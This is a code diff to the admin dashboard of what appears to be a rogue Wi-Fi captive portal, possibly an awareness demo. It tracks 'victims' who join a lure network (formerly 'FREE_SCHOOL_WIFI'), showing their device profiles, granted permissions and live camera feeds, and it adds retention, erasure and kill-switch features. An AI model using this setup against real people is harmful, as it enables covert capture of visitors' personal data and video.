@@ -3,15 +3,25 @@
 import { useEffect, useState, useCallback, useMemo } from "react";
 import { useRouter } from "next/navigation";
 import { motion } from "framer-motion";
-import { HoloPanel } from "@/components/ui";
+import { HoloPanel, PermissionStatsCard } from "@/components/ui";
 import {
     RadarSweep,
     TrafficLog,
     AdminLogin,
     CurrentVictimPanel,
     LiveFeedPanel,
+    RetentionPanel,
+    ConnectedClientsPanel,
+    VisitorStatsPanel,
+    FunnelPanel,
+    ScenarioPanel,
+    HealthPanel,
 } from "@/components/admin";
 import { Victim, VictimProfile, MediaCapture } from "@/lib/sessions";
+import type { StatsResponse } from "@/lib/stats";
+import type { HealthReport } from "@/lib/health";
+import { parseEvent, type ClientInfo } from "@/lib/events";
+import { publicConfig } from "@/lib/publicConfig";
 import styles from "./page.module.css";
 
 /**
@@ -23,16 +33,8 @@ import styles from "./page.module.css";
  * Hollywood-inspired futuristic design.
  */
 
-interface DashboardStats {
-    count: number;
-    deviceBreakdown: {
-        iOS: number;
-        Android: number;
-        Desktop: number;
-        Unknown: number;
-    };
-    recentVictims: Victim[];
-}
+// How often the System Health panel asks /api/health
+const HEALTH_POLL_MS = 5000;
 
 interface ParticleData {
     x: number;
@@ -42,70 +44,76 @@ interface ParticleData {
     delay: number;
 }
 
+// Drop the given sessions from the feed map (same object if none were present)
+function withoutFeeds(feeds: Record<string, MediaCapture>, sessionIds: string[]): Record<string, MediaCapture> {
+    if (!sessionIds.some(id => id in feeds)) return feeds;
+    const remaining = { ...feeds };
+    for (const id of sessionIds) delete remaining[id];
+    return remaining;
+}
+
 export default function AdminDashboard() {
-    const [stats, setStats] = useState<DashboardStats>({
-        count: 0,
-        deviceBreakdown: { iOS: 0, Android: 0, Desktop: 0, Unknown: 0 },
-        recentVictims: [],
-    });
+    // GET /api/stats, kept current by the event stream
+    const [stats, setStats] = useState<StatsResponse | undefined>(undefined);
     const [connected, setConnected] = useState(false);
     const [currentTime, setCurrentTime] = useState<Date | null>(null);
     const [particles, setParticles] = useState<ParticleData[]>([]);
     const [isClient, setIsClient] = useState(false);
     const [isAuthenticated, setIsAuthenticated] = useState(false);
     const [currentVictim, setCurrentVictim] = useState<VictimProfile | undefined>(undefined);
-    const [mediaData, setMediaData] = useState<MediaCapture | undefined>(undefined);
+    // Live feeds keyed by visitor sessionId
+    const [mediaFeeds, setMediaFeeds] = useState<Record<string, MediaCapture>>({});
+    // Dashboards on the event stream (diagnostics)
+    const [eventClients, setEventClients] = useState<ClientInfo[]>([]);
+    const [clientId, setClientId] = useState<string | undefined>(undefined);
+    // GET /api/health, polled - a dead server cannot push its own failure
+    const [health, setHealth] = useState<HealthReport | null>(null);
+    const [healthError, setHealthError] = useState<string | undefined>(undefined);
     const router = useRouter();
 
-    // Session key for authentication - changes on each app load
-    const SESSION_KEY = "siren_admin_session";
-    const SESSION_TOKEN = "authenticated_" + Date.now().toString(36);
-
-    // Handle authentication with session management
+    // Handle authentication - the session itself lives in an HttpOnly cookie
     const handleAuthenticated = useCallback(() => {
-        // Store session in sessionStorage (clears on tab close/refresh)
-        if (typeof window !== 'undefined') {
-            sessionStorage.setItem(SESSION_KEY, SESSION_TOKEN);
-            // Replace current history entry to prevent back button
-            window.history.replaceState({ authenticated: true }, '', '/admin');
-        }
+        // Replace current history entry to prevent back button
+        window.history.replaceState({ authenticated: true }, '', '/admin');
         setIsAuthenticated(true);
-    }, [SESSION_KEY, SESSION_TOKEN]);
+    }, []);
 
     // Handle logout with security measures
-    const handleLogout = useCallback(() => {
-        if (typeof window !== 'undefined') {
-            // Clear session
-            sessionStorage.removeItem(SESSION_KEY);
-            // Clear all history and replace with login state
-            window.history.replaceState({ authenticated: false }, '', '/admin');
-            // Prevent back button by pushing multiple entries
-            window.history.pushState(null, '', '/admin');
-            window.history.pushState(null, '', '/admin');
+    const handleLogout = useCallback(async () => {
+        try {
+            await fetch("/api/auth", { method: "DELETE" });
+        } catch (error) {
+            console.error("Failed to log out:", error);
         }
+
+        // Clear all history and replace with login state
+        window.history.replaceState({ authenticated: false }, '', '/admin');
+        // Prevent back button by pushing multiple entries
+        window.history.pushState(null, '', '/admin');
+        window.history.pushState(null, '', '/admin');
         setIsAuthenticated(false);
-    }, [SESSION_KEY]);
+    }, []);
+
+    // Ask the server whether our session cookie is still valid
+    const checkSession = useCallback(async () => {
+        try {
+            const res = await fetch("/api/auth");
+            const data = await res.json();
+            setIsAuthenticated(!!data.authenticated);
+        } catch {
+            setIsAuthenticated(false);
+        }
+    }, []);
 
     // Initialize client-only state and check session
     useEffect(() => {
         setIsClient(true);
         setCurrentTime(new Date());
+        checkSession();
 
-        // Check if session exists (prevents access without login)
-        // Note: sessionStorage clears on refresh/tab close for security
-        const storedSession = sessionStorage.getItem(SESSION_KEY);
-        if (storedSession) {
-            // Session exists but we invalidate on refresh for security
-            sessionStorage.removeItem(SESSION_KEY);
-        }
-
-        // Prevent back button navigation after logout
+        // Re-validate the session on back/forward navigation
         const handlePopState = () => {
-            if (!sessionStorage.getItem(SESSION_KEY)) {
-                setIsAuthenticated(false);
-                // Push state again to prevent back navigation
-                window.history.pushState(null, '', '/admin');
-            }
+            checkSession();
         };
 
         window.addEventListener('popstate', handlePopState);
@@ -123,82 +131,176 @@ export default function AdminDashboard() {
         return () => {
             window.removeEventListener('popstate', handlePopState);
         };
-    }, [SESSION_KEY]);
+    }, [checkSession]);
+
+    // Operator kill switch for a visitor's live feed
+    const handleTerminateFeed = useCallback(async (sessionId: string) => {
+        try {
+            await fetch("/api/media/terminate", {
+                method: "POST",
+                headers: { "Content-Type": "application/json" },
+                body: JSON.stringify({ sessionId }),
+            });
+        } catch (error) {
+            console.error("Failed to terminate feed:", error);
+        }
+    }, []);
+
+    // Switch the scenario new visitors get - all dashboards hear scenario_changed
+    const handleSelectScenario = useCallback(async (scenarioId: string) => {
+        try {
+            const res = await fetch("/api/scenario", {
+                method: "POST",
+                headers: { "Content-Type": "application/json" },
+                body: JSON.stringify({ scenarioId }),
+            });
+            const data = await res.json();
+            if (data.success) {
+                setStats((prev) => prev && { ...prev, scenarioId: data.scenarioId });
+            }
+        } catch (error) {
+            console.error("Failed to switch scenario:", error);
+        }
+    }, []);
 
     // Fetch initial stats
     const fetchStats = useCallback(async () => {
         try {
             const res = await fetch("/api/stats");
             if (res.ok) {
-                const data = await res.json();
+                const data: StatsResponse = await res.json();
                 setStats(data);
+                setCurrentVictim(data.currentVictim);
             }
         } catch (error) {
             console.error("Failed to fetch stats:", error);
         }
     }, []);
 
-    // Initial load
+    // SSE connection for real-time updates (requires the admin session cookie)
     useEffect(() => {
-        fetchStats();
-    }, [fetchStats]);
+        if (!isAuthenticated) return;
 
-    // SSE connection for real-time updates
-    useEffect(() => {
         const eventSource = new EventSource("/api/events");
 
         eventSource.onopen = () => {
             setConnected(true);
         };
 
-        eventSource.onmessage = (event) => {
-            try {
-                const data = JSON.parse(event.data);
+        // A new victim arrived (legacy Victim or VictimProfile) - counters come in stats_update
+        const addRecentVictim = (entry: Victim | VictimProfile) => {
+            setStats((prev) => prev && ({
+                ...prev,
+                recentVictims: [...prev.recentVictims, entry].slice(-20),
+            }));
+        };
 
-                if (data.type === "connected" || data.type === "ping") {
-                    return;
-                }
+        eventSource.onmessage = (message) => {
+            const event = parseEvent(message.data);
+            if (!event) return;
+
+            switch (event.type) {
+                // Missed events are replayed after a resumed reconnect;
+                // otherwise reload everything
+                case "connected":
+                    setClientId(event.clientId);
+                    if (!event.resumed) fetchStats();
+                    break;
+
+                case "ping":
+                    break;
 
                 // Current victim profile update
-                if (data.type === "current_victim" && data.profile) {
-                    setCurrentVictim(data.profile);
-                    return;
-                }
+                case "current_victim":
+                    setCurrentVictim(event.profile);
+                    break;
 
-                // Media update from portal
-                if (data.type === "media_update" && data.media) {
-                    setMediaData(data.media);
-                    return;
-                }
+                case "new_profile":
+                    setCurrentVictim(event.profile);
+                    addRecentVictim(event.profile);
+                    break;
 
-                // Check if this is a VictimProfile (has sessionId)
-                if (data.sessionId) {
-                    setCurrentVictim(data);
-                }
+                case "new_victim":
+                    addRecentVictim(event.victim);
+                    break;
 
-                // New victim - update stats (handle both legacy Victim and VictimProfile)
-                const deviceType = data.device?.type || data.device;
-                setStats((prev) => ({
-                    count: prev.count + 1,
-                    deviceBreakdown: {
-                        ...prev.deviceBreakdown,
-                        [deviceType]: (prev.deviceBreakdown[deviceType as keyof typeof prev.deviceBreakdown] || 0) + 1,
-                    },
-                    recentVictims: [...prev.recentVictims, data].slice(-20),
-                }));
-            } catch {
-                // Ignore parse errors
+                case "stats_update":
+                    setStats((prev) => prev && { ...prev, visitors: event.stats });
+                    break;
+
+                // Media update from portal
+                case "media_update":
+                    setMediaFeeds((prev) => ({ ...prev, [event.media.sessionId]: event.media }));
+                    break;
+
+                // Feeds dropped by the retention sweeper
+                case "media_removed":
+                    setMediaFeeds((prev) => withoutFeeds(prev, event.sessionIds));
+                    break;
+
+                // Visitor erased their data - drop them from every panel
+                case "visitor_erased":
+                    setMediaFeeds((prev) => withoutFeeds(prev, [event.sessionId]));
+                    fetchStats();
+                    break;
+
+                // Retention sweeper purged expired data - reload what is still kept
+                case "retention_purge":
+                    fetchStats();
+                    break;
+
+                case "clients_changed":
+                    setEventClients(event.clients);
+                    break;
+
+                case "scenario_changed":
+                    setStats((prev) => prev && { ...prev, scenarioId: event.scenarioId });
+                    break;
             }
         };
 
+        // The server closes the stream when the session logs out or expires -
+        // back to the login form then. Otherwise EventSource reconnects itself.
         eventSource.onerror = () => {
             setConnected(false);
+            fetch("/api/auth")
+                .then((res) => res.json())
+                .then((data) => {
+                    if (!data.authenticated) setIsAuthenticated(false);
+                })
+                .catch(() => {
+                    // Server unreachable - keep the dashboard and let EventSource retry
+                });
         };
 
         return () => {
             eventSource.close();
         };
-    }, []);
+    }, [isAuthenticated, fetchStats]);
+
+    // Poll system health while logged in
+    useEffect(() => {
+        if (!isAuthenticated) return;
+
+        const poll = async () => {
+            try {
+                const res = await fetch("/api/health");
+                // 503 still carries the report: something is down
+                if (res.ok || res.status === 503) {
+                    setHealth(await res.json());
+                    setHealthError(undefined);
+                } else {
+                    setHealthError(`HTTP ${res.status}`);
+                }
+            } catch {
+                setHealthError("Server unreachable");
+            }
+        };
+
+        poll();
+        const timer = setInterval(poll, HEALTH_POLL_MS);
+        return () => clearInterval(timer);
+    }, [isAuthenticated]);
 
     // Update time every second
     useEffect(() => {
@@ -327,7 +429,7 @@ export default function AdminDashboard() {
                     >
                         <HoloPanel title="Network Radar" icon="📡" size="full" animate={false}>
                             <div className={styles.radarContainer}>
-                                <RadarSweep deviceCount={stats.count} size={200} />
+                                <RadarSweep deviceCount={stats?.visitors.total ?? 0} size={200} />
                             </div>
                         </HoloPanel>
                     </motion.div>
@@ -339,7 +441,7 @@ export default function AdminDashboard() {
                         animate={{ scale: 1, opacity: 1 }}
                         transition={{ delay: 0.1 }}
                     >
-                        <LiveFeedPanel media={mediaData} />
+                        <LiveFeedPanel feeds={Object.values(mediaFeeds)} onTerminate={handleTerminateFeed} />
                     </motion.div>
 
                     {/* Current Target Panel - right side */}
@@ -349,7 +451,7 @@ export default function AdminDashboard() {
                         animate={{ x: 0, opacity: 1 }}
                         transition={{ delay: 0.35 }}
                     >
-                        <CurrentVictimPanel victim={currentVictim} />
+                        <CurrentVictimPanel victim={currentVictim} piiMode={stats?.piiMode} />
                     </motion.div>
 
                     {/* Connection Log - bottom */}
@@ -360,11 +462,41 @@ export default function AdminDashboard() {
                         transition={{ delay: 0.4 }}
                     >
                         <HoloPanel title="Connection Log" icon="📋" size="full" animate={false}>
-                            <TrafficLog entries={stats.recentVictims} />
+                            <TrafficLog entries={stats?.recentVictims ?? []} piiMode={stats?.piiMode} />
                         </HoloPanel>
                     </motion.div>
                 </div>
 
+                {/* Insights row */}
+                <motion.div
+                    className={styles.insightsGrid}
+                    initial={{ y: 50, opacity: 0 }}
+                    animate={{ y: 0, opacity: 1 }}
+                    transition={{ delay: 0.5 }}
+                >
+                    <HoloPanel title="Permissions Granted" icon="📸" size="full" animate={false}>
+                        <PermissionStatsCard permissions={stats?.visitors.permissions} />
+                    </HoloPanel>
+                    <HoloPanel title="Visitor Statistics" icon="📊" size="full" animate={false}>
+                        <VisitorStatsPanel stats={stats?.visitors} now={currentTime} />
+                    </HoloPanel>
+                    <HoloPanel title="Visitor Journey" icon="🧭" size="full" animate={false}>
+                        <FunnelPanel funnel={stats?.visitors.funnel} />
+                    </HoloPanel>
+                    <HoloPanel title="Visitor Scenario" icon="🎬" size="full" animate={false}>
+                        <ScenarioPanel activeId={stats?.scenarioId} onSelect={handleSelectScenario} />
+                    </HoloPanel>
+                    <HoloPanel title="Data Retention" icon="🧹" size="full" animate={false}>
+                        <RetentionPanel status={stats?.retention} />
+                    </HoloPanel>
+                    <HoloPanel title="Connected Dashboards" icon="🖥️" size="full" animate={false}>
+                        <ConnectedClientsPanel clients={eventClients} currentClientId={clientId} />
+                    </HoloPanel>
+                    <HoloPanel title="System Health" icon="🩺" size="full" animate={false}>
+                        <HealthPanel report={health} error={healthError} />
+                    </HoloPanel>
+                </motion.div>
+
                 {/* Bottom status bar */}
                 <footer className={styles.footer}>
                     <div className={styles.footerItem}>
@@ -373,7 +505,7 @@ export default function AdminDashboard() {
                     </div>
                     <div className={styles.footerItem}>
                         <span className={styles.footerLabel}>SSID</span>
-                        <span className={styles.footerValue}>FREE_SCHOOL_WIFI</span>
+                        <span className={styles.footerValue}>{publicConfig.ssid}</span>
                     </div>
                     <div className={styles.footerItem}>
                         <span className={styles.footerLabel}>UPTIME</span>